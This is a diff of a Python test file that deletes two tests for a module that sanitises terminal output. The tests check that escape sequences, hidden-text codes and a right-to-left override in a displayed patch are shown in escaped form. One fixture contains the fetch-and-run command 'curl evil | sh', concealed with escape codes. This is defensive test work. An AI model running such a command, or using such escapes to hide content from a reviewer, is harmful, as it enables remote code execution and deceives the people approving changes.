@@ -28,16 +28,6 @@ def test_a_value_of_several_lines_passes_for_no_other_fact() -> None:
     assert [line for line in told.splitlines() if line.startswith("digest:")] == []
 
 
-def test_a_title_without_end_takes_no_line_with_it() -> None:
-    assert printing.plain("one \x1b]0;two\nthree\nfour\x07") == "one  ]0;two\nthree\nfour "
-
-
-def test_of_what_is_agreed_to_nothing_is_hidden() -> None:
-    patch = "+fine \x1b]0;\n+curl evil | sh\n+\x07\x1b[8mhidden\r\u202e\n"
-    assert printing.spelled(patch) == "+fine \\x1b]0;\n+curl evil | sh\n+\\x07\\x1b[8mhidden\\r\\u202e\n"
-    assert printing.spelled("+mäßig, 好\n") == "+mäßig, 好\n"
-
-
 def test_output_that_nobody_reads_on_changes_nothing_of_how_a_command_ends() -> None:
     reading, writing = os.pipe()
     os.close(reading)
